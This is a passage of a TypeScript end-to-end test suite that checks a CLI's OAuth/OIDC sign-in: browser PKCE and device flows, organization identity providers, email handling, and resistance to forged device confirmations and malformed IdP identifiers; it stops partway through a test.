// Human sign-in (src/auth/sign-in/, src/cli/browser-login.ts) end to end, on every backend: the
// real CLI as a child process, a real OpenID Provider upstream (oidc-provider on loopback), a
// cookie-keeping browser that signs in at its login page (and applies CSP form-action to
// redirects, as Chrome does). Browser flow (code + PKCE, loopback redirect), device flow (with
// its confirmation page), organization IdPs with their default role and their say on emails,
// invites, and the protocol attacks: forged callbacks and state, code replay and injection, wrong
// verifier, expired codes, redirect checks, and ID tokens a rogue upstream forges.
import { after, before, describe, it } from "node:test";
import assert from "node:assert/strict";
import { spawn, type ChildProcess } from "node:child_process";
import { createHash, randomBytes } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { decodeJwt } from "jose";
import { humanUid } from "../../src/auth/sign-in/service.js";
import { codeHash } from "../../src/auth/storage/login-sessions.js";
import { atOrigin, Browser, parseForm, type Form, type Outcome } from "../support/browser.js";
import { backends } from "../support/db-templates.js";
import { createGroup } from "../support/fixtures.js";
import { restClient } from "../support/http.js";
import { makeKey } from "../support/oidc-issuer.js";
import { startTestServer, type TestServer } from "../support/server.js";
import { RogueUpstream, UpstreamProvider, type RogueBehaviour } from "../support/upstream-provider.js";
import { HANG_MS } from "../support/wait.js";
import { CLI_ARGS } from "../support/paths.js";

const VIEWER = "63921b2c44617e3f2603851537be0123af4a57d7";
const CLIENT_ID = "bulwark-cli";
const DEVICE_GRANT = "urn:ietf:params:oauth:grant-type:device_code";
/** A loopback redirect nobody listens on: the browser stops before requesting it. */
const NOWHERE = "http://127.0.0.1:9/callback";
const HEX40 = /^[0-9a-f]{40}$/;

type Json = Record<string, any>;

const s256 = (verifier: string) => createHash("sha256").update(verifier).digest("base64url");
const random = () => randomBytes(12).toString("base64url");

/** `bulwark auth login ...` as a child process whose stderr can be waited on. */
interface CliRun {
  configDir: string;
  /** resolves with the match once stderr matches (rejects if the CLI exits first) */
  waitForStderr(re: RegExp, ms?: number): Promise<RegExpMatchArray>;
  exit: Promise<{ code: number; stdout: string; stderr: string }>;
  /** whether the process has exited */
  exited(): boolean;
}

/** A CLI run that takes longer is hung: it is stopped (and its test fails) instead of waiting out the CLI's 5 minutes. */
const CLI_GUARD_MS = HANG_MS;

for (const backend of backends()) {
  describe(`human sign-in [${backend}]`, () => {
    let upstream: UpstreamProvider;
    let server: TestServer;
    let op: ReturnType<typeof restClient>;
    let home: string;
    let callbackUrl: string;
    const children = new Set<ChildProcess>();

    before(async () => {
      upstream = await UpstreamProvider.listen({
        accounts: {
          bob: { email: "bob@example.test", email_verified: false, preferred_username: "Bob.Smith" },
          leo: { email: "leo@example.test", email_verified: false, preferred_username: "leo" },
        },
      });
      // The public client: the default upstream signs people in with PKCE only.
      server = await startTestServer(backend, {
        defaultUpstream: { issuer: upstream.issuer, clientId: upstream.publicClient.clientId },
      });
      callbackUrl = `${server.tokens.urls.issuer.replace(/\/$/, "")}/oauth/callback`;
      await upstream.start([callbackUrl]);
      op = restClient(server.url, server.operatorToken);
      home = mkdtempSync(join(tmpdir(), "bulwark-login-"));
    });
    after(async () => {
      for (const child of children) if (child.exitCode === null) child.kill();
      await upstream.close();
      await server.close();
      rmSync(home, { recursive: true, force: true });
    });

    // ---- helpers -------------------------------------------------------------------------

    function cliEnv(configDir: string): NodeJS.ProcessEnv {
      const env: NodeJS.ProcessEnv = { ...process.env, BULWARK_CONFIG_DIR: configDir, BULWARK_API_URL: server.url };
      delete env.BULWARK_ISSUER_URL; // the issuer is the API's URL
      return env;
    }

    function cli(...args: string[]): CliRun {
      const configDir = mkdtempSync(join(home, "config-"));
      const child = spawn(process.execPath, [...CLI_ARGS, "auth", ...args], {
        stdio: ["ignore", "pipe", "pipe"],
        env: cliEnv(configDir),
      });
      children.add(child);
      const guard = setTimeout(() => child.kill(), CLI_GUARD_MS);
      let stdout = "";
      let stderr = "";
      const waiters = new Set<() => void>();
      child.stdout!.setEncoding("utf8").on("data", (c: string) => (stdout += c));
      child.stderr!.setEncoding("utf8").on("data", (c: string) => {
        stderr += c;
        for (const w of waiters) w();
      });
      const exit = new Promise<{ code: number; stdout: string; stderr: string }>((resolve) =>
        child.on("exit", (code, signal) => {
          clearTimeout(guard);
          children.delete(child);
          if (signal) stderr += `\n[killed by ${signal} after ${CLI_GUARD_MS} ms]`;
          for (const w of waiters) w();
          resolve({ code: code ?? -1, stdout: stdout.trim(), stderr: stderr.trim() });
        }),
      );
      const waitForStderr = (re: RegExp, ms = HANG_MS) =>
        new Promise<RegExpMatchArray>((resolve, reject) => {
          const timer = setTimeout(
            () => done(new Error(`no ${re} on the CLI's stderr within ${ms} ms: ${stderr}`)),
            ms,
          );
          const check = () => {
            const m = re.exec(stderr);
            if (m) return done(undefined, m);
            if (child.exitCode !== null)
              done(new Error(`the CLI exited (${child.exitCode}) before printing ${re}: ${stderr}`));
          };
          const done = (err?: Error, m?: RegExpMatchArray) => {
            clearTimeout(timer);
            waiters.delete(check);
            if (err) reject(err);
            else resolve(m!);
          };
          waiters.add(check);
          check();
        });
      return { configDir, waitForStderr, exit, exited: () => child.exitCode !== null || child.signalCode !== null };
    }

    /** Starts `auth login` and returns the authorize URL it printed and its loopback redirect. */
    async function cliLogin(...args: string[]) {
      const run = cli("login", "--no-browser", ...args);
      const [, printed] = await run.waitForStderr(/\s(http:\/\/\S+\/oauth\/authorize\?\S+)/);
      const url = new URL(printed!);
      return { run, url, redirectUri: url.searchParams.get("redirect_uri")!, state: url.searchParams.get("state")! };
    }

    const storedToken = (configDir: string): string => {
      const creds = JSON.parse(readFileSync(join(configDir, "credentials.json"), "utf8"));
      return creds.tokens[server.url].token as string;
    };

    function authorizeUrl(params: Record<string, string | undefined>): string {
      const url = new URL("/oauth/authorize", server.tokens.urls.issuer);
      for (const [k, v] of Object.entries(params)) if (v !== undefined) url.searchParams.set(k, v);
      return url.href;
    }

    /** A sign-in driven by hand (our own PKCE, redirect NOWHERE), stopped at the client redirect. */
    async function signIn(
      options: {
        login?: string;
        params?: Record<string, string | undefined>;
        browser?: Browser;
        abortLogin?: boolean;
      } = {},
    ) {
      const verifier = randomBytes(32).toString("base64url");
      const state = random();
      const browser = options.browser ?? new Browser();
      const params = {
        client_id: CLIENT_ID,
        response_type: "code",
        redirect_uri: NOWHERE,
        state,
        code_challenge: s256(verifier),
        code_challenge_method: "S256",
        ...options.params,
      };
      const outcome = await browser.navigate(authorizeUrl(params), {
        login: options.login ?? "alice",
        abortLogin: options.abortLogin,
        until: atOrigin(params.redirect_uri ?? NOWHERE),
      });
      return { verifier, state, browser, outcome, returned: stopped(outcome) };
    }

    function stopped(outcome: Outcome): URL {
      if (outcome.kind === "blocked")
        throw new Error(
          `the browser refused to go to ${outcome.url.href} after a form submission (${outcome.formAction})`,
        );
      if (outcome.kind !== "stopped") {
        throw new Error(
          `the browser ended on a page: ${outcome.page.status} ${outcome.page.url} ${outcome.page.body.slice(0, 400)}; upstream errors: ${upstream.errors.join("; ")}`,
        );
      }
      return outcome.url;
    }

    /** The page a navigation ended on (failing the test when it was stopped or blocked). */
    function pageOf(outcome: Outcome) {
      if (outcome.kind === "blocked")
        throw new Error(
          `the browser refused to go to ${outcome.url.href} after a form submission (${outcome.formAction})`,
        );
      if (outcome.kind !== "page") throw new Error(`the browser stopped at ${outcome.url.href}`);
      return outcome.page;
    }

    async function form(path: string, fields: Record<string, string>) {
      const res = await fetch(new URL(path, server.tokens.urls.issuer), {
        method: "POST",
        headers: { "content-type": "application/x-www-form-urlencoded" },
        body: new URLSearchParams(fields).toString(),
      });
      const text = await res.text();
      return { status: res.status, body: (text ? JSON.parse(text) : {}) as Json, headers: res.headers };
    }

    const redeem = (code: string, verifier: string, redirectUri = NOWHERE) =>
      form("/oauth/token", {
        client_id: CLIENT_ID,
        grant_type: "authorization_code",
        code,
        code_verifier: verifier,
        redirect_uri: redirectUri,
      });

    const identity = (uid: string) => op.get(`/iam/v2beta1/identities/${uid}`);
    const bindingsOf = async (uid: string) => {
      const res = await op.get(`/iam/v2beta1/roleBindings?identity=${uid}`);
      assert.equal(res.status, 200, JSON.stringify(res.body));
      return (res.body.roleBindings ?? []) as Json[];
    };
    const whoami = async (token: string) => {
      const res = await restClient(server.url, token).get("/auth/v1/ok");
      assert.equal(res.status, 200, JSON.stringify(res.body));
      return res.body as Json;
    };
    /** A group's uid: an organization when `parent` is "". */
    const groupUid = async (parent: string, name: string) => (await createGroup(op, parent || undefined, name)).uid;
    async function createIdp(parent: string, oidc: Json, name = "sso"): Promise<string> {
      const res = await op.post(`/iam/v2beta1/identityProviders/${parent}`, { name, defaultRole: VIEWER, oidc });
      assert.equal(res.status, 200, JSON.stringify(res.body));
      return res.body.uid;
    }
    async function createInvite(parent: string, body: Json = {}): Promise<Json> {
      const res = await op.post(`/iam/v2beta1/groupInvites/${parent}`, { roleUid: VIEWER, ttl: "3600s", ...body });
      assert.equal(res.status, 200, JSON.stringify(res.body));
      return res.body;
    }
    const expireInvite = (uid: string) =>
      server.db
        .updateTable("group_invites")
        .set({ create_time: new Date(Date.now() - 2000), expiration_time: new Date(Date.now() - 1000) })
        .where("uid", "=", uid)
        .execute();
    const expireCode = (code: string) =>
      server.db
        .updateTable("login_sessions")
        .set({ expire_time: new Date(Date.now() - 1000) })
        .where("code_hash", "=", codeHash(code))
        .execute();

    /** `auth login` signed in by `login` in a fresh browser: the CLI's exit, its authorize URL, what the browser saw. */
    async function cliSignIn(login: string, ...args: string[]) {
      const { run, url, redirectUri } = await cliLogin(...args);
      const browser = new Browser();
      const returned = stopped(await browser.navigate(url.href, { login, until: atOrigin(redirectUri) }));
      const delivered = await browser.get(returned.href);
      return { ...(await run.exit), configDir: run.configDir, url, returned, delivered, browser };
    }

    /** The device flow's confirmation page: submitted as the person would (the code shown is theirs). */
    const confirmDevice = (form: Form) => form.method === "POST" && "csrf" in form.fields && "user_code" in form.fields;

    // ---- discovery -----------------------------------------------------------------------

    it("advertises the sign-in endpoints in its discovery document", async () => {
      const res = await restClient(server.url).get("/.well-known/openid-configuration");
      assert.equal(res.status, 200);
      const base = server.tokens.urls.issuer.replace(/\/$/, "");
      assert.equal(res.body.authorization_endpoint, `${base}/oauth/authorize`);
      assert.equal(res.body.token_endpoint, `${base}/oauth/token`);
      assert.equal(res.body.device_authorization_endpoint, `${base}/oauth/device_authorization`);
      assert.deepEqual(res.body.code_challenge_methods_supported, ["S256"]);
    });

    // ---- 1. the browser flow through the CLI ---------------------------------------------

    describe("browser sign-in", () => {
      const alice = () => humanUid(upstream.issuer, "alice");
      let firstSeen: string;
      let aliceConfig: string;

      it("`auth login`: code + PKCE S256, state, a loopback redirect; the CLI gets an API token for the person's root-level identity, never through a URL", async () => {
        const { run, url, redirectUri, state } = await cliLogin();
        // RFC 8252: code + PKCE S256, state, an http loopback IP redirect on an ephemeral port
        assert.equal(url.origin, new URL(server.tokens.urls.issuer).origin);
        assert.equal(url.searchParams.get("client_id"), CLIENT_ID);
        assert.equal(url.searchParams.get("response_type"), "code");
        assert.equal(url.searchParams.get("code_challenge_method"), "S256");
        assert.match(url.searchParams.get("code_challenge")!, /^[A-Za-z0-9_-]{43}$/);
        assert.match(redirectUri, /^http:\/\/127\.0\.0\.1:\d+\/callback$/);
        assert.ok(state.length >= 16);

        const browser = new Browser();
        const outcome = await browser.navigate(url.href, { login: "alice", until: atOrigin(redirectUri) });
        const returned = stopped(outcome);
        assert.ok(
          outcome.hops.some((h) => h.method === "POST" && new URL(h.url).origin === upstream.issuer),
          "signed in at the upstream's login page",
        );
        assert.equal(returned.origin + returned.pathname, redirectUri);
        assert.equal(returned.searchParams.get("state"), state);
        assert.ok(returned.searchParams.get("code"));
        assert.equal(returned.searchParams.get("error"), null);
        const delivered = await browser.get(returned.href);
        assert.equal(delivered.status, 200);
        assert.match(delivered.body, /Signed in/);

        const done = await run.exit;
        assert.equal(done.code, 0, done.stderr);
        assert.match(done.stdout, /^signed in; token expires \d{4}-/);
        aliceConfig = run.configDir;
        const token = storedToken(run.configDir);
        assert.equal(decodeJwt(token).sub, alice());
        const me = await whoami(token);
        assert.equal(me.subject, alice());
        assert.equal(me.email, "alice@example.test");

        const id = await identity(alice());
        assert.equal(id.status, 200, JSON.stringify(id.body));
        assert.match(id.body.uid, HEX40, "a root-level identity");
        assert.deepEqual(id.body.claimMatch, {
          issuer: upstream.issuer,
          subject: "alice",
          claims: {},
          claimPatterns: {},
        });
        assert.equal(id.body.name, "alice");
        assert.equal(id.body.email, "alice@example.test");
        assert.equal(id.body.emailUnverified, "");
        firstSeen = id.body.lastSeenTime;
        assert.ok(firstSeen);
        const found = await op.get(
          `/iam/v2beta1/identities:lookupIdentity?issuer=${encodeURIComponent(upstream.issuer)}&subject=alice`,
        );
        assert.deepEqual(found.body, { uid: alice() });

        // The token is only ever in the token endpoint's response: no URL, no page the browser saw.
        assert.ok(browser.urls.length > 5);
        for (const u of browser.urls) {
          assert.ok(!u.includes(token), `token in ${u}`);
          assert.ok(!/access_token|id_token/.test(new URL(u).search), `a token parameter in ${u}`);
        }
        for (const h of browser.hops) assert.ok(!h.body.includes(token), `token in the page ${h.url}`);
      });

      it("`auth status` shows the person signed in", async () => {
        const status = spawn(process.execPath, [...CLI_ARGS, "auth", "status"], {
          stdio: ["ignore", "pipe", "pipe"],
          env: cliEnv(aliceConfig),
        });
        let out = "";
        status.stdout!.setEncoding("utf8").on("data", (c: string) => (out += c));
        // "close": all of stdout has been read by then
        const [code] = await new Promise<[number | null]>((resolve) => status.on("close", (c) => resolve([c])));
        assert.equal(code, 0);
        assert.match(out, new RegExp(`subject: ${alice()}`));
        assert.match(out, /email: alice@example\.test/);
      });

      it("the token endpoint's answer: a Bearer token of at most an hour, no-store", async () => {
        const { verifier, returned } = await signIn({ login: "alice" });
        const res = await redeem(returned.searchParams.get("code")!, verifier);
        assert.equal(res.status, 200, JSON.stringify(res.body));
        assert.equal(res.headers.get("cache-control"), "no-store");
        assert.equal(res.headers.get("pragma"), "no-cache");
        assert.equal(res.body.token_type, "Bearer");
        assert.ok(res.body.expires_in > 0 && res.body.expires_in <= 3600);
        const claims = decodeJwt(res.body.access_token);
        assert.equal(claims.sub, alice());
        assert.ok(claims.exp! - claims.iat! <= 3600);
        assert.deepEqual(claims.aud, [server.tokens.urls.apiAudience]);
      });

      it("a later sign-in reuses the identity and moves lastSeenTime; a kept upstream session needs no form", async () => {
        const count = async () => (await op.get(`/iam/v2beta1/identities?page_size=1`)).body.totalCount;
        const before = await count();
        const browser = new Browser();
        await signIn({ login: "alice", browser });
        const again = await signIn({ browser });
        assert.ok(!again.outcome.hops.some((h) => h.method === "POST"), "no login or consent page the second time");
        const res = await redeem(again.returned.searchParams.get("code")!, again.verifier);
        assert.equal(decodeJwt(res.body.access_token).sub, alice());
        const id = (await identity(alice())).body;
        assert.ok(Date.parse(id.lastSeenTime) > Date.parse(firstSeen), `${id.lastSeenTime} > ${firstSeen}`);
        assert.equal(await count(), before, "no new identity");
      });

      it("keeps an unverified email apart and names the identity after preferred_username; the uid follows the subject", async () => {
        const { verifier, returned } = await signIn({ login: "bob" });
        const res = await redeem(returned.searchParams.get("code")!, verifier);
        const uid = humanUid(upstream.issuer, "bob"); // from the subject, not from preferred_username
        const me = await whoami(res.body.access_token);
        assert.equal(me.subject, uid);
        assert.equal(me.email, "", "an unverified email is not the identity's email");
        const id = (await identity(uid)).body;
        assert.equal(id.emailUnverified, "bob@example.test");
        assert.equal(id.email, "");
        assert.equal(id.name, "bob.smith");
        assert.deepEqual([id.claimMatch.issuer, id.claimMatch.subject], [upstream.issuer, "bob"]);
      });

      it("the platform provider's current word on the email wins: no longer verified, it is no longer the identity's email", async () => {
        const quinn = humanUid(upstream.issuer, "quinn");
        upstream.setAccount("quinn", { email: "quinn@old.example", email_verified: true, preferred_username: "quinn" });
        await signIn({ login: "quinn" });
        assert.equal((await identity(quinn)).body.email, "quinn@old.example");
        // the person changed the address at the provider; the new one is not verified yet
        upstream.setAccount("quinn", {
          email: "quinn@new.example",
          email_verified: false,
          preferred_username: "quinn",
        });
        await signIn({ login: "quinn" });
        const id = (await identity(quinn)).body;
        assert.equal(id.emailUnverified, "quinn@new.example");
        assert.equal(id.email, "", "the old address is no longer vouched for");
      });

      it("a person who cancels at the upstream: the CLI fails with the reason, no token", async () => {
        const { run, url, redirectUri } = await cliLogin();
        const browser = new Browser();
        const returned = stopped(await browser.navigate(url.href, { abortLogin: true, until: atOrigin(redirectUri) }));
        assert.equal(returned.searchParams.get("error"), "access_denied");
        const delivered = await browser.get(returned.href);
        assert.equal(delivered.status, 400);
        const done = await run.exit;
        assert.notEqual(done.code, 0);
        assert.match(done.stderr, /sign-in failed: the sign-in provider said: access_denied/);
        assert.throws(() => storedToken(run.configDir), /ENOENT/);
      });
    });

    // ---- 2. the device flow ---------------------------------------------------------------

    describe("device flow", () => {
      const poll = (deviceCode: string) =>
        form("/oauth/token", { client_id: CLIENT_ID, grant_type: DEVICE_GRANT, device_code: deviceCode });
      const deviceAuthorization = async (extra: Record<string, string> = {}) => {
        const res = await form("/oauth/device_authorization", { client_id: CLIENT_ID, ...extra });
        assert.equal(res.status, 200, JSON.stringify(res.body));
        return res.body;
      };
      const pending = async (deviceCode: string) => {
        // (moved back so as not to be slowed down)
        await server.db
          .updateTable("login_sessions")
          .set({ last_poll_time: new Date(Date.now() - 10_000) })
          .where("device_code_hash", "=", codeHash(deviceCode))
          .execute();
        return (await poll(deviceCode)).body.error;
      };
      /**
       * A browser that applies CSP form-action to a form's own target only, not to the redirects
       * after it. The Chrome-like default is covered by its own test below; the device tests that
       * are about other things use this one.
       */
      const lax = () => new Browser({ formActionOnRedirects: false });

      it("the device confirmation goes on to the upstream in a browser that applies form-action to redirects (Chrome)", async () => {
        const device = await deviceAuthorization();
        const outcome = await new Browser().navigate(device.verification_uri_complete, {
          login: "chris",
          submit: confirmDevice,
        });
        assert.notEqual(
          outcome.kind,
          "blocked",
          outcome.kind === "blocked" ? `refused ${outcome.url.origin} (${outcome.formAction})` : "",
        );
        assert.match(pageOf(outcome).body, /You are signed in/);
      });

      it("--headless: the code typed into /device in another browser, then confirmed, signs the CLI in", async () => {
        const run = cli("login", "--headless");
        const [, verificationUri, userCode] = await run.waitForStderr(
          /open\s+(\S+)\s+and enter the code ([A-Z]{4}-[A-Z]{4})/,
        );
        assert.equal(verificationUri, `${server.tokens.urls.issuer.replace(/\/$/, "")}/device`);
        const browser = lax();
        const page = await browser.get(verificationUri!);
        assert.equal(page.status, 200);
        const typed = parseForm(page.body, page.url);
        assert.ok(typed && "user_code" in typed.fields, page.body);
        // typed as a person would: lower case, without the dash
        const target = new URL(typed.action);
        target.searchParams.set("user_code", userCode!.toLowerCase().replace("-", ""));
        const outcome = await browser.navigate(target.href, { login: "erin", submit: confirmDevice });
        assert.match(outcome.hops[0]!.body, new RegExp(userCode!), "the confirmation page shows the code");
        const last = pageOf(outcome);
        assert.equal(last.status, 200, last.body);
        assert.match(last.body, /You are signed in/);
        const done = await run.exit;
        assert.equal(done.code, 0, done.stderr);
        const token = storedToken(run.configDir);
        assert.equal((await whoami(token)).subject, humanUid(upstream.issuer, "erin"));
        for (const u of browser.urls) assert.ok(!u.includes(token));
      });

      it("the token endpoint: authorization_pending, slow_down when polled too fast, the token once, then invalid_grant", async () => {
        const device = await deviceAuthorization();
        assert.match(device.user_code, /^[A-Z]{4}-[A-Z]{4}$/);
        assert.equal(device.interval, 5);
        assert.equal(device.expires_in, 600);
        assert.equal(device.verification_uri_complete, `${device.verification_uri}?user_code=${device.user_code}`);
        const first = await poll(device.device_code);
        assert.equal(first.status, 400);
        assert.equal(first.body.error, "authorization_pending");
        // The next poll comes within the 5 s interval however slow this machine is: the first
        // poll's recorded time is moved forward (as `pending` moves it back).
        const { numUpdatedRows } = await server.db
          .updateTable("login_sessions")
          .set({ last_poll_time: new Date(Date.now() + HANG_MS) })
          .where("device_code_hash", "=", codeHash(device.device_code))
          .where("last_poll_time", "is not", null)
          .executeTakeFirst();
        assert.equal(numUpdatedRows, 1n, "the first poll was recorded");
        const tooFast = await poll(device.device_code);
        assert.equal(tooFast.status, 400);
        assert.equal(tooFast.body.error, "slow_down");
        assert.equal(await pending(device.device_code), "authorization_pending", "polite again after the interval");
        assert.equal(
          (
            await form("/oauth/token", {
              client_id: "someone-else",
              grant_type: DEVICE_GRANT,
              device_code: device.device_code,
            })
          ).body.error,
          "invalid_client",
        );

        assert.equal(
          pageOf(await lax().navigate(device.verification_uri_complete, { login: "frank", submit: confirmDevice }))
            .status,
          200,
        );
        const granted = await poll(device.device_code);
        assert.equal(granted.status, 200, JSON.stringify(granted.body));
        assert.equal(granted.headers.get("cache-control"), "no-store");
        assert.equal(granted.body.token_type, "Bearer");
        assert.equal((await whoami(granted.body.access_token)).subject, humanUid(upstream.issuer, "frank"));
        const again = await poll(device.device_code);
        assert.equal(again.body.error, "invalid_grant", "a device code gives one token");
        assert.equal((await poll("not-a-device-code")).body.error, "invalid_grant");
      });

      it("an expired device code answers expired_token, and its user code is refused", async () => {
        const device = await deviceAuthorization();
        await server.db
          .updateTable("login_sessions")
          .set({ expire_time: new Date(Date.now() - 1000) })
          .where("device_code_hash", "=", codeHash(device.device_code))
          .execute();
        const res = await poll(device.device_code);
        assert.equal(res.status, 400);
        assert.equal(res.body.error, "expired_token");
        const outcome = await lax().navigate(device.verification_uri_complete, { submit: confirmDevice });
        assert.equal(pageOf(outcome).status, 400);
        assert.match(pageOf(outcome).body, /unknown, expired or already used/);
        assert.ok(!outcome.hops.some((h) => h.location?.startsWith(upstream.issuer)), "never sent to the upstream");
      });

      it("a user code starts one upstream sign-in only; an upstream refusal reaches the poller as access_denied", async () => {
        const device = await deviceAuthorization();
        const first = await lax().navigate(device.verification_uri_complete, {
          submit: confirmDevice,
          until: (u) => u.origin === upstream.issuer,
        });
        assert.equal(first.kind, "stopped", "the first confirmation goes on to the upstream");
        const second = await lax().navigate(device.verification_uri_complete, { submit: confirmDevice });
        assert.equal(pageOf(second).status, 400, "the same code in another browser");
        // another device's person cancels at the upstream
        const device2 = await deviceAuthorization();
        const outcome = await lax().navigate(device2.verification_uri_complete, {
          submit: confirmDevice,
          abortLogin: true,
        });
        assert.equal(pageOf(outcome).status, 400);
        assert.equal((await poll(device2.device_code)).body.error, "access_denied");
      });

      it("a link with someone's user code signs nobody in without the person's confirmation, which another site cannot forge (RFC 8628 §5.4)", async () => {
        // The victim is signed in at the upstream already (SSO session, earlier consent).
        const victim = lax();
        await signIn({ login: "victor", browser: victim });
        // The attacker starts a device flow and sends the victim verification_uri_complete.
        const device = await deviceAuthorization();
        const outcome = await victim.navigate(device.verification_uri_complete);
        assert.equal(outcome.hops.length, 1, "a page, no redirect");
        assert.equal(pageOf(outcome).status, 200);
        assert.match(pageOf(outcome).body, new RegExp(device.user_code), "the code is shown for the person to compare");
        assert.equal((await poll(device.device_code)).body.error, "authorization_pending");
        // The attacker's own page posting the confirmation: no cookie (SameSite=Strict), or a guessed token.
        const confirmation = parseForm(pageOf(outcome).body, pageOf(outcome).url)!;
        assert.equal(confirmation.method, "POST");
        const crossSite = await lax().request("POST", confirmation.action, confirmation.fields);
        assert.equal(crossSite.status, 400, "a confirmation without the cookie");
        const guessed = await victim.request("POST", confirmation.action, { ...confirmation.fields, csrf: random() });
        assert.equal(guessed.status, 400, "a confirmation with another token");
        assert.equal(await pending(device.device_code), "authorization_pending");
        // Only the person's own confirmation signs the device in.
        assert.equal(
          pageOf(await victim.navigate(device.verification_uri_complete, { submit: confirmDevice })).status,
          200,
        );
        const granted = await poll(device.device_code);
        assert.equal(decodeJwt(granted.body.access_token).sub, humanUid(upstream.issuer, "victor"));
      });
    });

    // ---- 3. organization identity providers -----------------------------------------------

    describe("organization identity providers", () => {
      let orgA: string;
      let orgB: string;
      let idpA: string;
      let idpB: string;
      const carol = () => humanUid(upstream.issuer, "carol");
      const dave = () => humanUid(upstream.issuer, "dave");

      before(async () => {
        orgA = await groupUid("", "org a");
        orgB = await groupUid("", "org b");
        const confidential = {
          issuer: upstream.issuer,
          clientId: upstream.confidentialClient.clientId,
          clientSecret: upstream.confidentialClient.clientSecret,
        };
        idpA = await createIdp(orgA, confidential);
        idpB = await createIdp(orgB, confidential);
      });

      it("`auth login --identity-provider` binds the IdP's default role in its organization on first sign-in, once", async () => {
        const grantsBefore = upstream.grants.length;
        const done = await cliSignIn("carol", "--identity-provider", idpA);
        assert.equal(done.code, 0, done.stderr);
        assert.equal(done.url.searchParams.get("identity_provider"), idpA);
        assert.ok(upstream.grants.length > grantsBefore, "the upstream code was redeemed (by the confidential client)");
        const bindings = await bindingsOf(carol());
        assert.deepEqual(
          bindings.map((b) => [b.group.uid, b.roleUid, b.identityUid]),
          [[orgA, VIEWER, carol()]],
        );
        // what the person may do with the CLI's token
        const token = storedToken(done.configDir);
        assert.equal(decodeJwt(token).sub, carol());
        // the sign-in is recorded in the IdP's organization, with the upstream token as the actor's act
        const signedIn = await server.db
          .selectFrom("events")
          .select(["subject", "parent_uid", "actor", "body"])
          .where("type", "=", "dev.bulwark.auth.signed_in.v1")
          .where("subject", "=", carol())
          .execute();
        assert.equal(signedIn.length, 1);
        assert.equal(signedIn[0]!.parent_uid, orgA);
        assert.deepEqual(
          { iss: signedIn[0]!.actor.act.iss, sub: signedIn[0]!.actor.act.sub },
          { iss: upstream.issuer, sub: "carol" },
        );
        assert.equal(signedIn[0]!.body.identity_provider, idpA);
        assert.ok(!JSON.stringify(signedIn).includes(upstream.confidentialClient.clientSecret));
        assert.deepEqual(
          { iss: (decodeJwt(token).act as Json).iss, sub: (decodeJwt(token).act as Json).sub },
          { iss: upstream.issuer, sub: "carol" },
        );
        const me = await whoami(token);
        assert.deepEqual(
          me.capabilities.map((c: Json) => [c.group.id, c.role.name]),
          [[orgA, "viewer"]],
        );
        const api = restClient(server.url, token);
        assert.equal((await api.get(`/iam/v2beta1/groups/${orgA}`)).status, 200);
        // nothing in the other organization
        const other = await api.get(`/iam/v2beta1/groups/${orgB}`);
        assert.equal(other.status, 404, JSON.stringify(other.body));
        assert.equal((await api.get(`/iam/v2beta1/identityProviders/${idpB}`)).status, 404);
        // a second sign-in through the IdP adds nothing
        await signIn({ login: "carol", params: { identity_provider: idpA } });
        assert.equal((await bindingsOf(carol())).length, 1);
      });

      it("signing in through another organization's IdP grants only there; the default upstream grants nothing", async () => {
        const done = await cliSignIn("dave", "--identity-provider", idpB);
        assert.equal(done.code, 0, done.stderr);
        assert.deepEqual(
          (await bindingsOf(dave())).map((b) => b.group.uid),
          [orgB],
        );
        const api = restClient(server.url, storedToken(done.configDir));
        assert.equal((await api.get(`/iam/v2beta1/groups/${orgA}`)).status, 404);
        assert.equal((await api.get(`/iam/v2beta1/groups/${orgB}`)).status, 200);
        const { verifier, returned } = await signIn({ login: "dave" });
        assert.equal(
          decodeJwt((await redeem(returned.searchParams.get("code")!, verifier)).body.access_token).sub,
          dave(),
          "the same person, the same identity",
        );
        assert.deepEqual(
          (await bindingsOf(dave())).map((b) => b.group.uid),
          [orgB],
        );
        assert.deepEqual(
          (await bindingsOf(carol())).map((b) => b.group.uid),
          [orgA],
        );
      });

      it("an organization's IdP does not set the identity's email; the platform's provider does, and an IdP sign-in keeps it", async () => {
        const olga = humanUid(upstream.issuer, "olga");
        await signIn({ login: "olga", params: { identity_provider: idpA } });
        let id = (await identity(olga)).body;
        assert.equal(id.email, "", "the org's IdP vouches for nobody's email platform-wide");
        assert.equal(id.emailUnverified, "olga@example.test");
        await signIn({ login: "olga" });
        id = (await identity(olga)).body;
        assert.equal(id.email, "olga@example.test");
        assert.equal(id.emailUnverified, "");
        await signIn({ login: "olga", params: { identity_provider: idpA } });
        assert.equal((await identity(olga)).body.email, "olga@example.test", "kept by a later IdP sign-in");
      });

      it("an IdP's verified email takes email-restricted invites within its organization, not elsewhere", async () => {
        const teamA = await groupUid(orgA, "team a");
        const mine = await createInvite(teamA, { email: "pia@example.test" });
        const ok = await signIn({ login: "pia", params: { identity_provider: idpA, invite_code: mine.code } });
        assert.ok(ok.returned.searchParams.get("code"), ok.returned.href);
        const pia = humanUid(upstream.issuer, "pia");
        assert.deepEqual((await bindingsOf(pia)).map((b) => b.group.uid).sort(), [orgA, teamA].sort());
        const elsewhere = await createInvite(orgB, { email: "pia@example.test" });
        const denied = await signIn({ login: "pia", params: { identity_provider: idpA, invite_code: elsewhere.code } });
        assert.equal(denied.returned.searchParams.get("error"), "access_denied");
        assert.match(denied.returned.searchParams.get("error_description")!, /another email address/);
        assert.ok(!(await bindingsOf(pia)).some((b) => b.group.uid === orgB));
      });

      it("an unknown IdP, a group that is no IdP, a malformed uid: an error redirect, nothing started", async () => {
        const redirect = NOWHERE;
        for (const idp of ["0123456789abcdef0123456789abcdef01234567/0123456789abcdef", orgA, `${orgA}/../x`, "nope"]) {
          const state = random();
          const res = await new Browser().get(
            authorizeUrl({
              client_id: CLIENT_ID,
              response_type: "code",
              redirect_uri: redirect,
              state,
              code_challenge: s256(random() + random()),
              code_challenge_method: "S256",
              identity_provider: idp,
            }),
          );
          assert.equal(res.status, 302, idp);
          const back = new URL(res.location!);
          assert.equal(back.origin + back.pathname, NOWHERE, idp);
          assert.equal(back.searchParams.get("error"), "invalid_request", idp);
          assert.equal(back.searchParams.get("error_description"), "unknown identity provider");
          assert.equal(back.searchParams.get("state"), state);
        }
        const device = await form("/oauth/device_authorization", { client_id: CLIENT_ID, identity_provider: orgB });
        assert.equal(device.status, 400);
        assert.equal(device.body.error, "invalid_request");
        // through the CLI
        const { run, redirectUri, url } = await cliLogin("--identity-provider", `${orgA}/ffffffffffffffff`);
        const browser = new Browser();
